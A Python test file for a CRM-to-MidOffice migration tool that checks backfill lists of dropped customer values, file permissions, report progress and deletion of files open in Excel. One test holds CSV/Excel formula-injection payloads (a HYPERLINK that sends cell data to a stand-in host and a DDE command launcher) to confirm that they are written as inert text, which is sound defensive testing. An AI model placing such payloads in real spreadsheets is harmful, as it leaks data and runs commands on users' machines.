""""In MidOffice nachtragen" (CONTRACT §4.3): the values a conversion drops, with the customer and the MidOffice
number — before the apply as files, and in the people's report. The fixture's copies and live records lack
*different* fields, so a list taken from the wrong side, a field list, or the wrong customers cannot pass."""

from __future__ import annotations

import os
import stat
from datetime import datetime

from openpyxl import load_workbook

from paxdesk.domain.plan import Action
from paxdesk.sandbox.fixture import parse_fixture
from paxdesk.sandbox.server import SandboxServer
from paxdesk.services.backfill_export import save_backfill
from paxdesk.services.conversion_session import MatchOutcome
from paxdesk.bootstrap import open_session
from paxdesk.domain.report import Report, Summary
from paxdesk.services.report_export import WriteProgress
from paxdesk.services.report_rows import FIELD
from paxdesk.services.review.rows import Decision
from tests.conftest import TOKEN, sandbox_doc
from tests.helpers import import_crm, xlsx_rows

FULL = {"salutation": "Frau", "title": "Dr.", "phone": "+49 30 999", "street": "Ahornweg 2", "zip": "10115",
        "city": "Berlin", "country": "DE", "birth_date": "1971-03-04"}
# per live record (sandbox number 200000 + i): the fields the MidOffice lacks
LIVE_LACKS = {0: ("phone", "birth_date"), 1: ("street", "zip", "city"), 2: (), 3: ("title",), 5: ("phone",)}
# per copy: the fields the copy lacks itself (nothing to drop there)
COPY_LACKS = {0: ("birth_date",), 3: ("title",)}


def _fixture() -> dict:
    doc = sandbox_doc(customers=8, deleted_every=0)
    for i, fields in LIVE_LACKS.items():
        doc["customers"][i].update({name: None for name in fields})
    return doc


def _crm(live: list[dict]) -> dict:
    customers = []
    for i in LIVE_LACKS:
        person = live[i]
        copy = {"id": f"c{i}", "kind": "v1", "midoffice": "midoco", "midoffice_id": person["id"],
                "first_name": person["first_name"], "last_name": person["last_name"], "email": person["emails"][0],
                **{k: v for k, v in FULL.items() if k not in COPY_LACKS.get(i, ())}}
        if i == 5:
            copy["last_name"] = "Anders"  # a large difference: left undecided, it is not converted
        customers.append(copy)
    return {"format": "paxdesk-crm/1", "agency": {"name": "Reisebüro Sonnenschein", "midoffice": "midoco"},
            "customers": customers}


def test_the_list_is_every_value_converting_drops_with_its_value_and_the_report_carries_it(tmp_path, monkeypatch):
    monkeypatch.setenv("PAXDESK_REPORTS", str(tmp_path / "Dokumente"))
    doc = _fixture()
    url = f"sqlite:///{(tmp_path / 'crm.sqlite').as_posix()}"
    import_crm(url, _crm(doc["customers"]))
    live = doc["customers"]
    expected = sorted((f"c{i}", f"{200000 + i}", name, FULL[name]) for i in LIVE_LACKS if i != 5
                      for name in FULL if name not in COPY_LACKS.get(i, ()) and not live[i].get(name))
    # c0 phone (its birth date is missing on both sides), c1 street, zip, city; and the sandbox has no titles
    assert ("c0", "200000", "phone", FULL["phone"]) in expected and len(expected) == 4 + 3

    with SandboxServer(parse_fixture(doc)) as server, \
            open_session(url, midoffice="midoco", base_url=server.api_url("midoco"), token=TOKEN,
                         remember_token=False) as session:
        assert session.check().passed
        session.reserve()
        outcome = [e for e in session.match() if isinstance(e, MatchOutcome)][0]
        plan = session.plan(outcome.items, {"c5": Decision(Action.SKIP)})
        values = session.dropped_values(plan)
        assert sorted((v.customer_id, v.number, v.field, v.value) for v in values) == expected

        xlsx, pdf = session.save_backfill_list(values)
        rows = xlsx_rows(xlsx, "Werte")[1:]
        assert sorted((r[1], r[2], r[4]) for r in rows) == sorted((c, n, v) for c, n, _, v in expected)
        assert {r[3] for r in rows} == {FIELD[f] for *_, f, _ in expected}  # German field names
        assert pdf.read_bytes().startswith(b"%PDF")
        if os.name != "nt":
            assert stat.S_IMODE(xlsx.stat().st_mode) == 0o600 and stat.S_IMODE(pdf.stat().st_mode) == 0o600
        assert session.backfill_lists() == sorted([xlsx, pdf])

        report = [e for e in session.apply(plan) if isinstance(e, Report)][0]
        events = list(session.people_report(report, {}, {}, values))
        assert any(isinstance(e, WriteProgress) for e in events)
        _facts, (_pdf, report_xlsx) = events[-1]
        sheet = xlsx_rows(report_xlsx, "In MidOffice nachtragen")
        assert sorted((r[1], r[2], r[4]) for r in sheet[1:]) == sorted((c, n, v) for c, n, _, v in expected)
        assert session.delete_backfill_lists() == (sorted([xlsx, pdf]), []) and session.backfill_lists() == []


def test_no_cell_of_the_list_is_a_formula(tmp_path):
    from paxdesk.services.backfill import DroppedValue

    values = [DroppedValue("c1", "100", "=HYPERLINK(\"http://x/?\"&C3,\"Klick\")", "phone", "=cmd|' /C calc'!A0")]
    xlsx, _pdf = save_backfill(values, "=Agentur", datetime(2026, 12, 6, 10, 0), tmp_path)
    book = load_workbook(xlsx)
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
    assert cells and all(c.data_type != "f" for c in cells)
    assert any(c.value == "=cmd|' /C calc'!A0" for c in cells)  # kept as the text it was


def test_the_report_s_progress_arrives_while_it_is_written_not_after(tmp_path, monkeypatch):
    """The first progress event comes before the names are fetched to the end (a generator consumed whole
    first would hand them all over at once, after the work)."""
    order = []

    def names(*_args):
        from paxdesk.services.report_export import WriteProgress
        from paxdesk.services.report_names import ReportNames
        order.append("fetch starts")
        yield WriteProgress(0, 2)
        order.append("fetch ends")
        yield ReportNames()
    monkeypatch.setenv("PAXDESK_REPORTS", str(tmp_path / "Berichte"))
    url = f"sqlite:///{(tmp_path / 'crm.sqlite').as_posix()}"
    import_crm(url, {"format": "paxdesk-crm/1", "agency": {"name": "RB", "midoffice": "midoco"}, "customers": []})
    with open_session(url) as session:
        monkeypatch.setattr(session.reporting, "report_names", names)
        report = Report("r", "midoco", False, None, Summary())
        events = session.people_report(report, {}, {})
        next(events)
        assert order == ["fetch starts"]  # the first event before the fetch went on
        *_rest, (facts, paths) = events
    assert order == ["fetch starts", "fetch ends"] and paths[0].exists()


def test_a_list_open_in_excel_is_kept_and_named_not_a_crash(tmp_path, monkeypatch):
    """On Windows a file open in Excel cannot be deleted (here, as root, nothing stops a delete: that refusal is
    stood in for); the other list goes, the open one is named."""
    from pathlib import Path

    from paxdesk.services.backfill import DroppedValue

    monkeypatch.setenv("PAXDESK_REPORTS", str(tmp_path / "Berichte"))
    url = f"sqlite:///{(tmp_path / 'crm.sqlite').as_posix()}"
    import_crm(url, {"format": "paxdesk-crm/1", "agency": {"name": "RB", "midoffice": "midoco"}, "customers": []})
    with open_session(url) as session:
        xlsx, pdf = session.save_backfill_list([DroppedValue("c1", "100", "Anna", "phone", "+4930")])
        real_unlink = Path.unlink

        def open_in_excel(path, *args, **kwargs):
            if path == xlsx:
                raise PermissionError(32, "The process cannot access the file", str(path))
            return real_unlink(path, *args, **kwargs)
        monkeypatch.setattr(Path, "unlink", open_in_excel)
        assert session.delete_backfill_lists() == ([pdf], [xlsx])
        assert xlsx.exists() and not pdf.exists()
